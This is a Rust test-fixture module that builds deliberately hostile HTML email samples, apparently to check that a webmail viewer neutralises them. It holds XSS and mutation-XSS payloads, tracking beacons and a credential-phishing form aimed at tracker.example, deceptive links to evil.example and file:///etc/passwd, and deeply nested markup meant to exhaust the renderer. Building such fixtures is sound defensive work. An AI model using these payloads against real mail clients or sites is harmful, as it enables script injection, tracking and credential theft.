//! HTML mail that tries to run, to call home, to lie about the page around it, or just to exhaust.

use super::{
    documents::{self, PHOTOS},
    mime::Part,
    odd::head,
};

/// See [`super::odd`]. Nothing here may make a browser ask `tracker.example` for anything, change the page
/// around the message, or set `window.pwned`.
pub(super) fn odd_html() -> Vec<(&'static str, Vec<u8>)> {
    let mut all = Vec::new();
    let mut add = |name: &'static str, html: &str| {
        all.push((name, Part::text("html", html, "utf-8").message_with(&head(name))));
    };
    add(
        "html-scripts",
        r#"<p>Scripts.</p><script>window.pwned=1</script><script src="http://tracker.example/x.js"></script><img src="x" onerror="window.pwned=2"><body onload="window.pwned=3"><a href="javascript:window.pwned=4">click</a><a href=" java&#10;script:window.pwned=5">click</a><svg><script>window.pwned=6</script><animate onbegin="window.pwned=7"/></svg><math><mi xlink:href="javascript:window.pwned=8">m</mi></math><details open ontoggle="window.pwned=9">d</details><iframe srcdoc="<script>top.pwned=10</script>"></iframe><object data="data:text/html,<script>top.pwned=11</script>"></object><embed src="javascript:window.pwned=12">"#,
    );
    add(
        "html-mutation",
        r#"<p>Mutation.</p><noscript><p title="</noscript><img src=x onerror=window.pwned=20>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=21&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=x onerror=window.pwned=22>"></svg><!--><img src=x onerror=window.pwned=23>--><![CDATA[<img src=x onerror=window.pwned=24>]]><template><script>window.pwned=25</script></template><select><style></select><img src=x onerror=window.pwned=26></style></select>"#,
    );
    add(
        "html-tracking",
        r#"<p>Tracking.</p><img src="http://tracker.example/pixel.gif?u=1" width="1" height="1"><img src="//tracker.example/2"><img srcset="http://tracker.example/3 2x"><img src="http:tracker.example/4"><picture><source srcset="http://tracker.example/5"><img src="https://tracker.example/6"></picture><table background="http://tracker.example/7"><tr><td>t</td></tr></table><body background="http://tracker.example/8"><div style="background:url(http://tracker.example/9)">b</div><div style="background-image:image-set('http://tracker.example/10' 1x)">i</div><div style="background:u\72l(http://tracker.example/11)">e</div><div style="list-style-image:url(http://tracker.example/12);content:url(http://tracker.example/13);cursor:url(http://tracker.example/14),auto">l</div><video src="http://tracker.example/15" poster="http://tracker.example/16" autoplay></video><audio src="http://tracker.example/17" autoplay></audio><link rel="stylesheet" href="http://tracker.example/18"><link rel="preconnect" href="http://tracker.example/"><link rel="dns-prefetch" href="//tracker.example"><style>@import "http://tracker.example/19"; @font-face{font-family:x;src:url(http://tracker.example/20)} p{background:url(http://tracker.example/21);font-family:x}</style><svg><image href="http://tracker.example/22"/><use href="http://tracker.example/23#a"/></svg><input type="image" src="http://tracker.example/24"><bgsound src="http://tracker.example/25"><iframe src="http://tracker.example/26"></iframe><object data="http://tracker.example/27"></object>"#,
    );
    add(
        "html-relative",
        r#"<base href="http://tracker.example/"><p>Relative.</p><img src="/logout"><img src="logo.png"><a href="/logout">Sign out</a><a href="../../logout">up</a><a href="?x=1">query</a><a href="//127.0.0.1:8080/logout">host</a><a href="http://127.0.0.1:8080/logout">the gateway</a><a href="http://localhost:8080/mail/INBOX">the gateway again</a><link rel="prefetch" href="/logout">"#,
    );
    add(
        "html-forms",
        r#"<p>Forms.</p><form action="/login" method="post"><input name="username" value="x"><input name="password" type="password"><button>Sign in</button></form><form action="http://tracker.example/steal"><input type="submit" value="Your session ended: sign in again" style="position:fixed;inset:0"></form><button formaction="javascript:window.pwned=30">b</button><isindex action="http://tracker.example/">"#,
    );
    add(
        "html-refresh",
        r#"<html><head><meta http-equiv="refresh" content="0;url=http://tracker.example/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="x=y"><title>Signed out</title></head><body><p>Refresh.</p></body></html>"#,
    );
    add(
        "html-overlay",
        r#"<style>*{position:fixed!important} #over{inset:0}</style><div id="over" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff">Your session has ended.</div><div style="position:absolute;top:-500px">up</div><div style="margin-top:-2000px">pulled up</div><div style="width:99999999px;height:99999999px">huge</div><div style="transform:scale(9999)">scaled</div><p id="main" name="body" class="page">Clobbering.</p><a name="cookie"></a><form id="body"></form>"#,
    );
    add(
        "html-dark",
        r##"<body bgcolor="#ffffff" text="#000000"><font color="#ffffff">White on the body's white</font><p style="color:#000000">Black by style</p><p style="color:white;background-color:black">White on black</p></body>"##,
    );
    add(
        "html-links",
        r#"<p>Links.</p><a href="http://evil.example/">https://www.bank.example/</a> <a href="https://user:pass@evil.example/">userinfo</a> <a href="http://xn--e1awd7f.example/">xn</a> <a href="mailto:bob@example.test?subject=Hi&amp;bcc=eve@example.org&amp;attach=/etc/passwd">mail</a> <a href="tel:+33123456789">call</a> <a href="data:text/html,<script>1</script>">data</a> <a href="file:///etc/passwd">file</a> <a href="cid:nothing">cid</a> <a href="blob:x">blob</a> <a href="vbscript:x">vb</a> <a href="http://example.org/%zz\0">bad</a> <a href="https://example.org/" target="_top" rel="opener" ping="http://tracker.example/ping" download>top</a> <map name="m"><area href="http://evil.example/area" shape="default"></map>"#,
    );
    add("html-divs-97k", &format!("{}deep{}", "<div>".repeat(9_000), "</div>".repeat(9_000)));
    add("html-divs-unclosed", &format!("{}deep", "<div>".repeat(20_000)));
    add(
        "html-nested-tables",
        &format!("{}x{}", "<table><tr><td>".repeat(500), "</td></tr></table>".repeat(500)),
    );
    add("html-inline-nesting", &"<b><i><a href='http://example.org/'><font color=red>".repeat(2_000));
    add("html-many-nodes", &format!("<table>{}</table>", "<tr><td>a</td><td>b</td></tr>".repeat(20_000)));
    add(
        "html-long-style",
        &format!(
            "<p style=\"{}\">styled</p><style>{}</style>",
            "color:red;".repeat(20_000),
            "a>b~c+d{color:red}".repeat(20_000)
        ),
    );
    add("html-long-attribute", &format!("<p title=\"{}\">title</p>", "x".repeat(500_000)));
    add(
        "html-broken",
        "<p>Unclosed <b>bold <i>both</b> italic</i> <td>stray cell <!-- a comment that never ends <p>lost?",
    );
    add(
        "html-outlook",
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><!--[if gte mso 9]><xml><o:p>office</o:p></xml><![endif]--><style><!-- p.MsoNormal {margin:0cm; font-size:11.0pt} --></style></head><body lang=FR><div class=WordSection1><p class=MsoNormal>Bonjour,<o:p></o:p></p><![if !supportLists]>1.<![endif]><p class=MsoNormal><span style='color:#1F497D;mso-fareast-language:EN-US'>Texte bleu</span></p></div></body></html>",
    );
    add(
        "html-wide",
        &format!(
            "<table width=\"1400\"><tr><td nowrap>{}</td></tr></table><pre>{}</pre>",
            "A very wide cell. ".repeat(20),
            "0123456789".repeat(40)
        ),
    );
    add(
        "html-meta-charset",
        "<html><head><meta charset=\"iso-8859-1\"></head><body>Un café à l’été, 12 €</body></html>",
    );
    add(
        "html-entities",
        "&lt;script&gt; &#60;b&#62; &nbsp;&zwnj;&notanentity; &#0; &#x110000; &#xD800; &eacute &copy;2026",
    );
    add("html-empty", "<html><head></head><body><!-- nothing --></body></html>");

    let mut parts = |name: &'static str, kind: &str, parts: &[Part]| {
        all.push((name, Part::multi(kind, "odd-html", parts).message_with(&head(name))));
    };
    let html = r#"<p>Two pictures:</p><img src="cid:one@odd" alt="one"><img src="cid:two%40odd" alt="two"><img src="cid:missing@odd" alt="missing"><img src="data:image/png;base64,iVBORw0KGgo=" alt="data"><img src="data:image/svg+xml,<svg onload=alert(1)>" alt="svg">"#;
    let pictures = [
        Part::text("html", html, "utf-8"),
        Part::inline("image/png", "one.png", "one@odd", &documents::png(32, (20, 120, 60))),
        Part::inline("image/jpeg", "two.jpg", "two@odd", PHOTOS[0]),
    ];
    parts("html-related", "related", &pictures);
    parts("html-cid-in-mixed", "mixed", &pictures);
    let svg = Part::inline(
        "image/svg+xml",
        "x.svg",
        "svg@odd",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.pwned=40</script></svg>\n",
    );
    parts(
        "html-cid-svg",
        "related",
        &[Part::text("html", "<img src=\"cid:svg@odd\" alt=\"svg\">", "utf-8"), svg],
    );
    let liar =
        Part::inline("image/png", "x.png", "liar@odd", b"<html><script>window.pwned=41</script></html>");
    parts(
        "html-cid-not-image",
        "related",
        &[Part::text("html", "<img src=\"cid:liar@odd\" alt=\"liar\">", "utf-8"), liar],
    );
    all
}
